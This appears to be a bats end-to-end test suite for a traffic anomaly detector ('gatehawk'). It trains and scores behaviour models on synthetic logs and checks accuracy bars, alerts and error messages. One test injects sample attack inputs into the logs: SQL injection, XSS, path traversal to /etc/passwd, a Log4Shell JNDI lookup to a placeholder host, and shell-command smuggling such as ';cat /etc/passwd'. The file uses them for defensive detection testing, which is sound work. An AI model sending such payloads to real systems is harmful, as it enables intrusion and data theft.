#!/usr/bin/env bats
# Profile policies end to end on files (issue 13): train on a generated week
# of benign history (tests/lib/gen_traffic.py, seed 1), score a labelled day
# the model never saw (seed 2, other sources, 34 attackers), print AUC and
# MCC per model and hold them to bars; replay fires with evidence; training
# is deterministic; untrained policies are skipped with a note; bad history,
# labels and model files are clear errors. No root.
#
# The bars: measured on this data (2026-11-30) kde AUC 0.955, MCC 0.887,
# TPR 0.853, FPR 0.004; pca AUC 0.996, MCC 0.854, TPR 0.824, FPR 0.006;
# endpoint on one-request payloads AUC 1.0, TPR 1.0, FPR 0. The asserted
# bars sit below those by a margin for machine and seed noise, and well
# above what guessing or one feature gives (helper measurement: the best
# single feature has AUC 0.80).

GH=build/gatehawk
GEN=tests/lib/gen_traffic.py

setup_file() {
	cd "$BATS_TEST_DIRNAME/../.." || return 1
	[[ -x $GH ]] || { echo "build $GH first (make all)" >&2; return 1; }
	local d=$BATS_FILE_TMPDIR
	"$GEN" --seed 1 --start 2026-11-01T00:00:00Z --hours 168 --benign-only \
		--out-log "$d/week.log" --out-labels "$d/week.labels" 2>/dev/null
	"$GEN" --seed 2 --start 2026-11-08T00:00:00Z --hours 24 \
		--out-log "$d/day.log" --out-labels "$d/day.labels" 2>/dev/null
	head -60000 "$d/week.log" >"$d/h.log"
	cp -R policies/profiles "$d/profiles"
	# The shipped policy as pca too: same features, window and threshold rule.
	jq '.name = "source-behaviour-pca" | .model = {"type": "pca",
		"file": "models/source-behaviour-pca.model"}' \
		policies/profiles/source-behaviour.json >"$d/profiles/source-behaviour-pca.json"
}

setup() {
	cd "$BATS_TEST_DIRNAME/../.." || return 1
	D=$BATS_FILE_TMPDIR
}

# train_test POLICY: train on the week, test on the day; the summary as JSON in $D/NAME.json.
train_test() {
	"$GH" train --policy "$D/profiles/$1.json" --test-log "$D/day.log" \
		--test-labels "$D/day.labels" --json "$D/week.log" >"$D/$1.json"
	jq -r --arg p "$1" '.training.test | "# \($p): AUC \(.auc) MCC \(.mcc) TPR \(.tpr) FPR \(.fpr) (tp \(.tp) fp \(.fp) tn \(.tn) fn \(.fn))"' \
		"$D/$1.json" >&3
}

@test "profile: kde on behaviour finds most attackers of an unseen day at under 1% false positives" {
	train_test source-behaviour
	jq -e '.training.test | .auc >= 0.9 and .mcc >= 0.75 and .tpr >= 0.75 and .fpr <= 0.01' \
		"$D/source-behaviour.json"
	[ -s "$D/profiles/models/source-behaviour.model" ]
}

@test "profile: pca on the same features ranks attackers above benign sources" {
	train_test source-behaviour-pca
	jq -e '.training.test | .auc >= 0.95 and .mcc >= 0.7 and .tpr >= 0.7 and .fpr <= 0.01' \
		"$D/source-behaviour-pca.json"
}

@test "profile: endpoint shapes flag one-request payloads no signature was asked about" {
	# The day's own sources plus 20 new ones: 10 send one payload in a known
	# parameter, 10 one ordinary search. Labelled by address.
	local payloads=("' union select 1,2,3--" "<script>alert(1)</script>" "../../../etc/passwd"
		'${jndi:ldap://x.example/a}' ";cat /etc/passwd" "1' or '1'='1" "\"><svg onload=1>"
		"|id" "%00" "{{7*7}}")
	local words=(red shoes "blue jacket" lamp cedar "amber ring" socks tea "green cup" mug)
	local tmpl i
	# At the end of the day: older records would be late for the engine.
	tmpl=$(grep -m1 '/api/v1/search?q=' "$D/day.log" |
		jq -c --arg t "$(tail -1 "$D/day.log" | jq -r .msec)" '.msec = $t | del(.time_iso8601)')
	cp "$D/day.log" "$D/payload.log"
	cp "$D/day.labels" "$D/payload.labels"
	for ((i = 0; i < 10; i++)); do
		jq -c --arg a "198.18.250.$((i + 1))" --arg q "${payloads[$i]}" \
			'.remote_addr = $a | .request = "GET /api/v1/search?q=\($q | @uri) HTTP/2.0"' \
			<<<"$tmpl" >>"$D/payload.log"
		echo "198.18.250.$((i + 1)) attack" >>"$D/payload.labels"
		jq -c --arg a "198.18.251.$((i + 1))" --arg q "${words[$i]}" \
			'.remote_addr = $a | .request = "GET /api/v1/search?q=\($q | @uri) HTTP/2.0"' \
			<<<"$tmpl" >>"$D/payload.log"
		echo "198.18.251.$((i + 1)) benign" >>"$D/payload.labels"
	done
	"$GH" train --policy "$D/profiles/endpoint-shape.json" --json "$D/week.log" >"$D/ep.json"
	# Only the 20 new sources: the day's generated attackers send no payloads.
	grep '^198\.18\.25[01]\.' "$D/payload.labels" >"$D/new.labels"
	"$GH" train --policy "$D/profiles/endpoint-shape.json" --test-log "$D/payload.log" \
		--test-labels "$D/new.labels" --json "$D/week.log" >"$D/ep.json"
	jq -r '.training.test | "# endpoint: AUC \(.auc) MCC \(.mcc) TPR \(.tpr) FPR \(.fpr)"' \
		"$D/ep.json" >&3
	jq -e '.training.test | .auc >= 0.95 and .tpr >= 0.9 and .fpr <= 0.1' "$D/ep.json"
	# Replay names the parameter and what was new in it.
	"$GH" replay --policies "$D/profiles" "$D/payload.log" 2>/dev/null >"$D/ep.alerts"
	jq -e -s '[.[] | select(.policy == "endpoint-shape" and .src_ip == "198.18.250.1")]
		| .[0].evidence.findings[0] | .kind == "new_chars" and .param == "q"' "$D/ep.alerts"
}

@test "profile: replay alerts on the day with the features that set a source apart" {
	[ -s "$D/profiles/models/source-behaviour.model" ] || train_test source-behaviour
	"$GH" replay --policies "$D/profiles" "$D/day.log" 2>"$D/err" >"$D/alerts"
	# Every alert names the model, its score over the threshold and three features
	# with their value and normal range.
	jq -e -s '[.[] | select(.policy == "source-behaviour")] | length > 0 and all(
		.value > .threshold and .evidence.model == "kde"
		and (.evidence.top_features | length == 3)
		and all(.evidence.top_features[]; has("value") and (.normal | length == 2)))' \
		"$D/alerts"
	# Most alerts are on labelled attackers.
	grep ' attack' "$D/day.labels" | cut -d' ' -f1 >"$D/attackers"
	local total hits
	total=$(jq -r 'select(.policy == "source-behaviour") | .src_ip' "$D/alerts" | sort -u | wc -l)
	hits=$(jq -r 'select(.policy == "source-behaviour") | .src_ip' "$D/alerts" | sort -u |
		grep -cxFf "$D/attackers" || true)
	echo "# replay: $hits of $total alerted sources are attackers" >&3
	((hits * 10 >= total * 7))
}

@test "profile: training is deterministic and the model records its settings" {
	mkdir -p "$D/det"
	"$GH" train --policy "$D/profiles/source-behaviour.json" --out "$D/det/a.model" "$D/h.log" >/dev/null
	"$GH" train --policy "$D/profiles/source-behaviour.json" --out "$D/det/b.model" "$D/h.log" >/dev/null
	cmp "$D/det/a.model" "$D/det/b.model"
	jq -e '.gatehawk_model == 1 and .meta.profile.policy == "source-behaviour"
		and .meta.profile.window_s == 3600 and (.meta.training.vectors > 100)' "$D/det/a.model"
	# In time order: no note. Halves given newest first: a note that windows lost records.
	"$GH" train --policy "$D/profiles/source-behaviour.json" --out "$D/det/c.model" "$D/h.log" \
		2>"$D/det/err" >/dev/null
	[ "$(grep -c 'left out of windows' "$D/det/err")" -eq 0 ]
	head -n "$(($(wc -l <"$D/h.log") / 2))" "$D/h.log" >"$D/det/older.log"
	tail -n +"$(($(wc -l <"$D/h.log") / 2 + 1))" "$D/h.log" >"$D/det/newer.log"
	"$GH" train --policy "$D/profiles/source-behaviour.json" --out "$D/det/d.model" \
		"$D/det/newer.log" "$D/det/older.log" 2>"$D/det/err" >/dev/null
	grep -q 'records came more than 10 s after a newer one and were left out of windows' "$D/det/err"
}

@test "profile: an untrained profile is skipped with a note, never an error" {
	mkdir -p "$D/fresh"
	cp policies/profiles/*.json "$D/fresh/"
	run "$GH" policy check "$D/fresh"
	[ "$status" -eq 0 ]
	[[ $output == *"not trained: skipped"* ]]
	[[ $output == *"note: "*"not trained yet"* ]]
	run "$GH" replay --policies "$D/fresh" "$D/day.log"
	[ "$status" -eq 0 ]
}

@test "profile: bad history, labels and model files are clear errors" {
	mkdir -p "$D/bad"
	cp policies/profiles/source-behaviour.json "$D/bad/"
	# One source: nothing to learn what is normal from.
	local first
	first=$(head -1 "$D/week.log" | jq -r .remote_addr)
	grep -F "\"remote_addr\":\"$first\"" "$D/week.log" >"$D/one.log"
	run "$GH" train --policy "$D/bad/source-behaviour.json" "$D/one.log"
	[ "$status" -eq 2 ]
	[[ $output == *"source(s)"*"needs at least 2"* ]]
	: >"$D/empty.log"
	run "$GH" train --policy "$D/bad/source-behaviour.json" "$D/empty.log"
	[ "$status" -eq 2 ]
	# Labels with no attacker: no threshold to choose.
	run "$GH" train --policy "$D/bad/source-behaviour.json" --labels "$D/week.labels" "$D/week.log"
	[ "$status" -eq 2 ]
	[[ $output == *"both benign and attack"* ]]
	echo "not-an-address attack" >"$D/bad.labels"
	run "$GH" train --policy "$D/bad/source-behaviour.json" --labels "$D/bad.labels" "$D/week.log"
	[ "$status" -eq 2 ]
	[[ $output == *"bad.labels"*"line 1"* || $output == *"bad.labels:1"* ]]
	# A model the policy no longer matches: the set is refused, saying retrain.
	"$GH" train --policy "$D/bad/source-behaviour.json" "$D/h.log" >/dev/null
	jq '.min_requests = 20' "$D/bad/source-behaviour.json" >"$D/bad/t" && mv "$D/bad/t" "$D/bad/source-behaviour.json"
	run "$GH" policy check "$D/bad"
	[ "$status" -eq 2 ]
	[[ $output == *"retrain"* ]]
	# A corrupt model names the field.
	"$GH" train --policy "$D/bad/source-behaviour.json" "$D/h.log" >/dev/null
	jq '.kde.bandwidth[0] = 0' "$D/bad/models/source-behaviour.model" >"$D/bad/m" &&
		mv "$D/bad/m" "$D/bad/models/source-behaviour.model"
	run "$GH" policy check "$D/bad"
	[ "$status" -eq 2 ]
	[[ $output == *"bandwidth[0]"* ]]
	# Not a profile policy.
	run "$GH" train --policy policies/scraper.json "$D/day.log"
	[ "$status" -eq 2 ]
	[[ $output == *"kind profile"* ]]
}
